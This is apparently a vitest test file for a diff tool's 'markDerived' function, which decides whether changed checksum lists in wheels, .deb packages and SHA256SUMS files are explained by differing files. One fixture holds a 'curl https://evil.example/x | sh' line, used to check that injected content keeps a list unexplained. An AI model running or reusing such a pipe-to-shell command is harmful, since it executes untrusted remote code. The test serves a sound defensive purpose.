import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { markDerived } from '../../../src/diff/derived.js'
import type { DiffItem } from '../../../src/diff/report.js'

const unexplained = [{ cause: 'unexplained' as const, evidence: 'e', fix: 'f' }]
const textItem = (path: string, removed: string[], added: string[]): DiffItem => ({
  path,
  kind: 'content',
  text: {
    unified: [
      '--- a',
      '+++ b',
      '@@ -1 +1 @@',
      ...removed.map((l) => `-${l}`),
      ...added.map((l) => `+${l}`),
    ].join('\n'),
    truncated: false,
  },
  hints: unexplained,
})
const changed = (path: string): DiffItem => ({ path, kind: 'content', hints: unexplained })

describe('markDerived', () => {
  it("explains a wheel's RECORD by the members whose lines changed", () => {
    const record = textItem(
      'app.whl!app-1.0.dist-info/RECORD',
      ['app/x.py,sha256=AAAA_-,10'],
      ['app/x.py,sha256=BBBB_-,11'],
    )
    const out = markDerived([changed('app.whl!app/x.py'), record])
    expect(out[1]?.hints).toMatchObject([
      { cause: 'derived', evidence: expect.stringContaining('app/x.py') as unknown },
    ])
    // Without the member differing, nothing explains the list.
    expect(markDerived([record])[0]?.hints).toEqual(unexplained)
  })

  it('checks each SHA-256 a changed line gives against the digest of the file it lists, on its side', () => {
    const [a, b] = ['a'.repeat(64), 'b'.repeat(64)]
    const file: DiffItem = { ...changed('x'), digests: [a, b] }
    const sums = (before: string, after: string) =>
      textItem('SHA256SUMS', [`${before}  x`], [`${after}  x`])
    const right = markDerived([file, sums(a, b)])[1]?.hints
    expect(right).toMatchObject([{ cause: 'derived' }])
    expect(right?.[0]?.evidence).toMatch(/is that file’s SHA-256/)
    // A list of zeros (or a stale sum) on either side is not the file's doing.
    expect(markDerived([file, sums(a, '0'.repeat(64))])[1]?.hints).toEqual(unexplained)
    // Nor one for a file with no digest to hold it against (on one side only): unchecked
    // is not checked.
    const unhashed: DiffItem = { path: 'x', kind: 'only-in-b', hints: [] }
    expect(markDerived([unhashed, sums(a, '0'.repeat(64))])[1]?.hints).toEqual(unexplained)
    expect(markDerived([file, sums(b, b)])[1]?.hints).toEqual(unexplained)
    // A compressed file's item holds its content's digests, not the file's own.
    const gz: DiffItem = { ...file, path: 'x', format: 'text.gz' }
    expect(markDerived([gz, sums(a, b)])[1]?.hints).toEqual(unexplained)
    // A wheel's RECORD writes it in base64url.
    const b64 = (hex: string) => Buffer.from(hex, 'hex').toString('base64url')
    const record = (after: string) =>
      textItem('w.whl!d/RECORD', [`x,sha256=${b64(a)},1`], [`x,sha256=${b64(after)},1`])
    const member: DiffItem = { ...changed('w.whl!x'), digests: [a, b] }
    expect(markDerived([member, record(b)])[1]?.hints[0]?.cause).toBe('derived')
    expect(markDerived([member, record('c'.repeat(64))])[1]?.hints).toEqual(unexplained)
    // MD5 cannot be checked against what the diff hashes: said so.
    const md5 = textItem('MD5SUMS', [`${'a'.repeat(32)}  x`], [`${'b'.repeat(32)}  x`])
    expect(markDerived([file, md5])[1]?.hints[0]?.evidence).toMatch(
      /not SHA-256 and were not checked/,
    )
  })

  it('leaves a list alone when any changed line is not a checksum of a differing file, or the diff was cut', () => {
    const sums = (extra: string[]) =>
      textItem('SHA256SUMS', [`${'a'.repeat(64)}  x`], [`${'b'.repeat(64)}  x`, ...extra])
    expect(markDerived([changed('x'), sums(['a new line'])])[1]?.hints).toEqual(unexplained)
    // A line added that begins `++ ` is shown `+++ `, as a header is: still a changed line.
    const hashed: DiffItem = { ...changed('x'), digests: ['a'.repeat(64), 'b'.repeat(64)] }
    expect(markDerived([hashed, sums([])])[1]?.hints[0]?.cause).toBe('derived')
    expect(markDerived([hashed, sums(['++ curl https://evil.example/x | sh'])])[1]?.hints).toEqual(
      unexplained,
    )
    const cut = sums([])
    if (cut.kind === 'content' && cut.text !== undefined) cut.text.truncated = true
    expect(markDerived([changed('x'), cut])[1]?.hints).toEqual(unexplained)
  })

  it('takes a line removed or added alone only for a file on that side alone', () => {
    const md5 = (n: string) => `${'a'.repeat(32)}  ${n}`
    // x differs and is still there: a list dropping its line drops a file.
    expect(markDerived([changed('x'), textItem('MD5SUMS', [md5('x')], [])])[1]?.hints).toEqual(
      unexplained,
    )
    expect(markDerived([changed('x'), textItem('MD5SUMS', [], [md5('x')])])[1]?.hints).toEqual(
      unexplained,
    )
    const gone: DiffItem = { path: 'x', kind: 'only-in-a', hints: [] }
    const added: DiffItem = { path: 'x', kind: 'only-in-b', hints: [] }
    expect(markDerived([gone, textItem('MD5SUMS', [md5('x')], [])])[1]?.hints[0]?.cause).toBe(
      'derived',
    )
    expect(markDerived([added, textItem('MD5SUMS', [], [md5('x')])])[1]?.hints[0]?.cause).toBe(
      'derived',
    )
    expect(markDerived([gone, textItem('MD5SUMS', [], [md5('x')])])[1]?.hints).toEqual(unexplained)
  })

  it('reads the names in a checksum list from its own directory, md5sums and RECORD from the root', () => {
    const sums = (at: string) => textItem(at, [`${'a'.repeat(64)}  x`], [`${'b'.repeat(64)}  x`])
    // Files whose digests are the sums listed.
    const hashed = (at: string): DiffItem => ({
      ...changed(at),
      digests: ['a'.repeat(64), 'b'.repeat(64)],
    })
    // sub/SHA256SUMS lists sub/x: another x that differs does not explain it.
    expect(markDerived([hashed('x'), sums('sub/SHA256SUMS')])[1]?.hints).toEqual(unexplained)
    expect(markDerived([hashed('sub/x'), sums('sub/SHA256SUMS')])[1]?.hints[0]?.cause).toBe(
      'derived',
    )
    expect(
      markDerived([hashed('a.tar!./sub/x'), sums('a.tar!sub/SHA256SUMS')])[1]?.hints[0]?.cause,
    ).toBe('derived')
    // A .deb's md5sums (in control.tar) lists paths in data.tar, from the package root.
    const md5 = textItem(
      'p.deb!control.tar.gz!./md5sums',
      [`${'a'.repeat(32)}  usr/bin/x`],
      [`${'b'.repeat(32)}  usr/bin/x`],
    )
    expect(markDerived([changed('p.deb!data.tar.xz!./usr/bin/x'), md5])[1]?.hints[0]?.cause).toBe(
      'derived',
    )
  })

  it('only ever turns unexplained text items into derived ones', () => {
    const item = fc.record({
      path: fc.constantFrom('x', 'y', 'a!x', 'SUMS'),
      line: fc.constantFrom(
        `${'c'.repeat(32)}  x`,
        `${'d'.repeat(32)} *./y`,
        'x,sha256=Q,1',
        'free text',
      ),
      cause: fc.constantFrom('unexplained', 'timestamp'),
    })
    fc.assert(
      fc.property(fc.array(item, { maxLength: 6 }), (specs) => {
        const items: DiffItem[] = specs.map((s) => ({
          ...textItem(s.path, [s.line], [s.line.replace(/[cd]/g, 'e')]),
          hints: [{ cause: s.cause as 'unexplained', evidence: 'e', fix: 'f' }],
        }))
        const out = markDerived(items)
        out.forEach((o, i) => {
          const before = items[i]
          if (o.hints[0]?.cause === 'derived') expect(before?.hints[0]?.cause).toBe('unexplained')
          else expect(o).toEqual(before)
        })
      }),
    )
  })
})

describe('markDerived, in the package the list belongs to', () => {
  const sums = (path: string) =>
    textItem(path, [`${'a'.repeat(32)}  usr/bin/foo`], [`${'b'.repeat(32)}  usr/bin/foo`])
  it("matches a .deb's md5sums with its own data archive, never another package's file of that name", () => {
    const list = sums('x.deb!control.tar.xz!./md5sums')
    expect(
      markDerived([changed('x.deb!data.tar.xz!./usr/bin/foo'), list])[1]?.hints[0]?.cause,
    ).toBe('derived')
    expect(markDerived([changed('y.deb!data.tar.xz!./usr/bin/foo'), list])[1]?.hints).toEqual(
      unexplained,
    )
  })

  it("matches a wheel's RECORD only inside that wheel, and a list outside a package from its own directory", () => {
    const record = textItem(
      'a.whl!a-1.dist-info/RECORD',
      ['x.py,sha256=AAAA,1'],
      ['x.py,sha256=BBBB,1'],
    )
    expect(markDerived([changed('b.whl!x.py'), record])[1]?.hints).toEqual(unexplained)
    // A top-level md5sums lists top-level files: a file of that name inside an archive
    // beside it is another file.
    const top = sums('md5sums')
    expect(markDerived([changed('bundle.tar!usr/bin/foo'), top])[1]?.hints).toEqual(unexplained)
    expect(markDerived([changed('usr/bin/foo'), top])[1]?.hints[0]?.cause).toBe('derived')
  })
})
